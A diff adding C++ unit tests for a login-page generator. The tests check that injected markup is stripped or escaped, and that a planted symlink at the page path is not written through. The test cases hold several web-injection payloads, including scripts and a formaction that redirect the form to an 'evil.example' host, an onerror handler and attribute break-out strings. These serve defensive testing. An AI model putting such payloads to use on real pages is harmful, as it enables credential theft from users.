@@ -125,6 +125,83 @@ TEST(LoginPage, StoredValuesCannotBreakOutOfTheirAttributes)
     EXPECT_EQ(EscapeAttribute("\x83\x5C\x95\x5C"), "\x83\x5C\x95\x5C"); // ソ表
 }
 
+// FieldOthers comes with the definitions file: the login page keeps its
+// hidden inputs (name and value) and nothing else, so it cannot run script
+// nor send the form, with the password, elsewhere.
+TEST(LoginPage, FieldOthersKeepsOnlyHiddenInputs)
+{
+    struct Case {
+        const char* name;
+        std::string fieldOthers;
+        std::string kept;
+        std::vector<std::string> dropped;
+    };
+    const std::vector<Case> cases = {
+        {"PlainInputsAsTheyWere",
+         "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
+         "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
+         {}},
+        {"QuotesCaseAndReferences", "<INPUT TYPE=\"Hidden\" NAME='tok' VALUE=\"a&amp;b&c\" />",
+         "<input type=hidden name=tok value=\"a&amp;b&amp;c\">", {}},
+        {"Script", "<script>document.fm.action='https://evil.example/'</script>", "",
+         {"<script>document.fm.action='https://evil.example/'</script>"}},
+        {"MarkupInsideAScriptIsNotAnInput", "<script>var s=\"<input type=hidden name=z value=1>\";</script>", "",
+         {"<script>var s=\"<input type=hidden name=z value=1>\";</script>"}},
+        {"EventHandlerAndFormActionOfAHiddenInput",
+         "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>",
+         "<input type=hidden name=a value=1>",
+         {"<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>"}},
+        {"OtherInputsAndElements",
+         "<input type=text name=t value=1><input type=hidden value=1><img src=x onerror=alert(1)>"
+         "<form action=https://evil.example/><input type=hidden name=k value=v></form>",
+         "<input type=hidden name=k value=v>",
+         {"<input type=text name=t value=1>", "<input type=hidden value=1>", "<img src=x onerror=alert(1)>",
+          "<form action=https://evil.example/>", "</form>"}},
+        {"ValuesThatTryToBreakOut",
+         "<input type=hidden name='a\"><script>' value='\"><script>x()</script>'>",
+         "<input type=hidden name=\"a&quot;&gt;&lt;script&gt;\" value=\"&quot;&gt;&lt;script&gt;x()&lt;/script&gt;\">",
+         {}},
+        {"TextAndComments", "before <input type=hidden name=a value=1> <!-- <input type=hidden name=c value=2> --> after",
+         "<input type=hidden name=a value=1>",
+         {"before", "<!-- <input type=hidden name=c value=2> -->", "after"}},
+        {"UnterminatedTag", "<input type=hidden name=a value=1><input type=hidden name=b value=2",
+         "<input type=hidden name=a value=1>", {"<input type=hidden name=b value=2"}},
+        {"ShiftJisValue", "<input type=hidden name=n value=\"\x95\x5C\">", "<input type=hidden name=n value=\"\x95\x5C\">",
+         {}},
+        {"Empty", "", "", {}},
+    };
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.name);
+        const LoginFormFields fields = FilterFieldOthers(c.fieldOthers);
+        EXPECT_EQ(fields.Html, c.kept);
+        EXPECT_EQ(fields.Dropped, c.dropped);
+
+        auto network = Network("A");
+        network->LoginURL = "https://a.example/login";
+        network->FieldUser = "uid";
+        network->FieldPassword = "pwd";
+        network->FieldOthers = c.fieldOthers;
+        const std::string page = BuildLoginPage(network->SetLogin("P", "me", "secret"));
+        EXPECT_NE(page.find("value=\"secret\">\r\n" + c.kept + "\r\n</form><script defer>\r\n"), std::string::npos)
+            << page;
+        EXPECT_EQ(page.find("evil"), std::string::npos);
+    }
+}
+
+TEST(LoginPage, FieldNamesFromTheDefinitionsCannotAddMarkup)
+{
+    auto network = Network("A");
+    network->FieldUser = "u\"><script>x()</script><x a=\"";
+    network->FieldPassword = "pw";
+    const std::string page = BuildLoginPage(network->SetLogin("P", "me", "secret"));
+    EXPECT_EQ(page.find("<script>x"), std::string::npos) << page;
+    EXPECT_NE(page.find("<input type=hidden name=\"u&quot;&gt;&lt;script&gt;x()&lt;/script&gt;&lt;x a=&quot;\" "
+                        "value=\"me\">"),
+              std::string::npos)
+        << page;
+    EXPECT_NE(page.find("<input type=hidden name=pw value=\"secret\">"), std::string::npos);
+}
+
 mode_t ModeOf(const std::string& path)
 {
     struct stat st {};
@@ -157,6 +234,30 @@ TEST(OpenLogin, WritesAPrivatePageThenOpensIt)
     EXPECT_EQ(written, BuildLoginPage(*network->FindLogin("P")));
     EXPECT_EQ(ModeOf(path), 0600u);
     EXPECT_EQ(browser.opened, (std::vector<std::string>{path}));
+}
+
+// The page holds a password: a link at its name (planted, or left over) is
+// replaced by a new private file, never written through.
+TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
+{
+    test::TempDir dir;
+    const std::string victim = dir.file("victim");
+    ASSERT_TRUE(WriteFileAtomically(victim, "precious").ok);
+    ::chmod(victim.c_str(), 0644);
+    const std::string path = dir.file("pwh1.html");
+    ASSERT_EQ(::symlink(victim.c_str(), path.c_str()), 0);
+
+    auto network = Network("A", {"P"});
+    RecordingBrowser browser;
+    ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
+    std::string written;
+    ASSERT_TRUE(ReadWholeFile(victim, written).ok);
+    EXPECT_EQ(written, "precious");
+    EXPECT_EQ(ModeOf(victim), 0644u);
+    struct stat st {};
+    ASSERT_EQ(::lstat(path.c_str(), &st), 0);
+    EXPECT_TRUE(S_ISREG(st.st_mode));
+    EXPECT_EQ(st.st_mode & 0777, 0600u);
 }
 
 TEST(OpenLogin, AFailedWriteOpensNoWindow)
